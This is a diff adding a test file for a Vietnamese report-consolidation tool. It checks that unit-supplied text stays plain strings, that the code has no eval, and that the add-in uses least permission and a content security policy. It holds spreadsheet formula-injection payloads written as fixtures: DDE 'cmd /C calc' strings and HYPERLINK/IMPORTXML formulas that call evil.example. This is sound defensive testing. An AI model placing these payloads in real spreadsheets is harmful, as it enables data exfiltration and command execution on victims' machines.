@@ -1,0 +1,133 @@
+// Nothing injected (issue: reliability and security): text that units type (names, tasks, results,
+// notes) reaches the summary as plain string cells, never formulas, and the JSON verbatim; the
+// source has no eval; the add-in asks for the least permission and its page carries a CSP.
+
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { strFromU8, unzipSync } from "fflate";
+import { main, type Io } from "../../src/cli/main";
+import { DEFAULT_PROFILE } from "../../src/core/profile";
+import { readXlsx } from "../../src/xlsx/read";
+import { reportBytes, type Edit } from "../helpers/report-builder";
+
+const repo = join(__dirname, "..", "..");
+
+function capture(): Io & { stdout: string; stderr: string } {
+  const io = { stdout: "", stderr: "", isErrTty: false, out: (t: string) => void (io.stdout += t), err: (t: string) => void (io.stderr += t) };
+  return io;
+}
+
+const NAME = '=HYPERLINK("http://evil.example/?"&A1,"Sở A")';
+const OWN_TASK = "+cmd|' /C calc'!A0";
+const OWN_LEAD = "-2+3+cmd|' /C notepad'!A0";
+const OWN_DEADLINE = "@SUM(1+1)*cmd|' /C calc'!A0";
+const RESULT = "=1+1";
+const NOTE = "@IMPORTXML(\"http://evil.example\")";
+const FILE = "=2+5.xlsx";
+
+describe("unit text is written as text, never as a formula", () => {
+  const root = mkdtempSync(join(tmpdir(), "kl226-injection-"));
+  const inDir = join(root, "in");
+  mkdirSync(inDir);
+  const own = 5 + DEFAULT_PROFILE.tasks.length; // first row after the profile's tasks (header is row 4)
+  const edits: Edit[] = [
+    { op: "set", sheet: "Nhiệm vụ", cell: "H5", value: RESULT },
+    { op: "set", sheet: "Nhiệm vụ", cell: "I5", value: NOTE },
+    { op: "set", sheet: "Nhiệm vụ", cell: `A${own}`, value: DEFAULT_PROFILE.tasks.length + 1 },
+    { op: "set", sheet: "Nhiệm vụ", cell: `B${own}`, value: OWN_TASK },
+    { op: "set", sheet: "Nhiệm vụ", cell: `C${own}`, value: OWN_LEAD },
+    { op: "set", sheet: "Nhiệm vụ", cell: `F${own}`, value: OWN_DEADLINE },
+    { op: "set", sheet: "Nhiệm vụ", cell: `G${own}`, value: "Đang thực hiện" },
+    { op: "set", sheet: "Nhiệm vụ", cell: `H${own}`, value: RESULT },
+    { op: "set", sheet: "Nhiệm vụ", cell: `I${own}`, value: NOTE },
+  ];
+  writeFileSync(join(inDir, FILE), reportBytes({ unit: "SO_A", name: NAME }, edits));
+  const out = join(root, "tong-hop.xlsx");
+  const json = join(root, "tong-hop.json");
+  let code = -1;
+  let io = capture();
+
+  beforeAll(async () => {
+    io = capture();
+    code = await main(["consolidate", inDir, "--out", out, "--json", json], io);
+  });
+
+  test("the file is accepted (the hostile-looking text is a valid report)", () => {
+    expect(io.stderr).toBe("");
+    expect(code).toBe(0);
+  });
+
+  test("no sheet of the summary holds a formula", () => {
+    const parts = unzipSync(new Uint8Array(readFileSync(out)));
+    const sheets = Object.keys(parts).filter((p) => /^xl\/worksheets\/.*\.xml$/.test(p));
+    expect(sheets.length).toBeGreaterThan(3);
+    for (const p of sheets) expect(strFromU8(parts[p]!)).not.toMatch(/<(\w+:)?f[\s>/]/);
+    expect(Object.keys(parts).some((p) => p.startsWith("xl/externalLinks/") || p.endsWith("vbaProject.bin"))).toBe(false);
+  });
+
+  test("each unit-supplied text that reaches the summary is a string cell equal to the text", () => {
+    const read = readXlsx(new Uint8Array(readFileSync(out)));
+    if (!read.ok) throw new Error(read.reason);
+    const all = read.workbook.sheets.flatMap((s) => s.rows.flatMap((row) => (row ?? []).filter((c) => c !== undefined)));
+    expect(all.some((c) => c?.formula === true)).toBe(false);
+    const strings = new Set(all.flatMap((c) => (c?.value.kind === "string" ? [c.value.value] : [])));
+    for (const text of [NAME, OWN_TASK, OWN_DEADLINE]) expect(strings).toContain(text);
+    expect([...strings].some((s) => s.endsWith(FILE))).toBe(true);
+    // And in the shared-string table exactly as typed (XML-escaped only).
+    const sst = strFromU8(unzipSync(new Uint8Array(readFileSync(out)))["xl/sharedStrings.xml"]!);
+    const escaped = (s: string): string => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
+    for (const text of [NAME, OWN_TASK, OWN_DEADLINE]) expect(sst.replace(/&quot;/g, '"').replace(/&apos;/g, "'")).toContain(`>${escaped(text)}</t>`);
+  });
+
+  test("the JSON report holds the unit's text verbatim", () => {
+    const report = JSON.parse(readFileSync(json, "utf8")) as { units: Array<{ name: string; file: string }> };
+    expect(report.units.map((u) => u.name)).toEqual([NAME]);
+    expect(report.units[0]?.file.endsWith(FILE)).toBe(true);
+  });
+});
+
+describe("no code from data, least permission, a content security policy", () => {
+  function sourceFiles(dir: string): string[] {
+    return readdirSync(dir).flatMap((name) => {
+      const p = join(dir, name);
+      return statSync(p).isDirectory() ? sourceFiles(p) : /\.(ts|tsx|js)$/.test(name) ? [p] : [];
+    });
+  }
+
+  test("src/ contains no eval( and no new Function(", () => {
+    const files = sourceFiles(join(repo, "src"));
+    expect(files.length).toBeGreaterThan(20);
+    const offenders = files.filter((f) => /\beval\s*\(|\bnew\s+Function\s*\(/.test(readFileSync(f, "utf8")));
+    expect(offenders).toEqual([]);
+  });
+
+  test("the manifest asks for ReadWriteDocument only", () => {
+    const manifest = readFileSync(join(repo, "manifest.xml"), "utf8");
+    expect([...manifest.matchAll(/<Permissions>([^<]*)<\/Permissions>/g)].map((m) => m[1])).toEqual(["ReadWriteDocument"]);
+  });
+
+  const CSP_DIRECTIVES = ["default-src 'self'", "script-src 'self'", "connect-src 'self'", "object-src 'none'"];
+
+  test("the taskpane page is built with a Content-Security-Policy meta (no eval, no foreign hosts)", () => {
+    const config = readFileSync(join(repo, "webpack.config.js"), "utf8");
+    expect(config).toMatch(/"http-equiv": "Content-Security-Policy"/);
+    for (const d of CSP_DIRECTIVES) expect(config).toContain(`"${d}"`);
+    expect(config).not.toContain("unsafe-eval");
+  });
+
+  test("the built taskpane.html carries the policy", () => {
+    const html = join(repo, "dist", "taskpane.html");
+    if (!existsSync(html)) {
+      console.log("dist/taskpane.html absent (run npm run build): built-page CSP check skipped.");
+      return;
+    }
+    const page = readFileSync(html, "utf8");
+    const meta = /<meta[^>]*http-equiv="?Content-Security-Policy"?[^>]*content="([^"]*)"/i.exec(page);
+    expect(meta).not.toBeNull();
+    for (const d of CSP_DIRECTIVES) expect(meta?.[1]).toContain(d);
+    expect(meta?.[1]).not.toContain("unsafe-eval");
+    // The policy applies only to what follows it: it must come before the first script.
+    expect(page.search(/<meta[^>]*Content-Security-Policy/i)).toBeLessThan(page.search(/<script/i));
+  });
+});
